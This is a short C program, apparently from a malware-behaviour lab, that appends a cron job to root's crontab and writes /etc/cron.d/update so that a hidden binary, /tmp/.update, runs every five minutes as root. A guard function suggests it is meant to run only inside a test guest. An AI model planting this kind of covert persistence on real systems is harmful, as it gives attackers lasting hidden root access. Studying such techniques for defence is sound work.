/* Enters itself into cron's table. */
#include "lab.h"

int main(void)
{
	only_in_a_guest();
	put("/var/spool/cron/crontabs/root", "*/5 * * * * /tmp/.update\n", O_APPEND, 0600);
	put("/etc/cron.d/update", "*/5 * * * * root /tmp/.update\n", O_TRUNC, 0644);
	return 0;
}
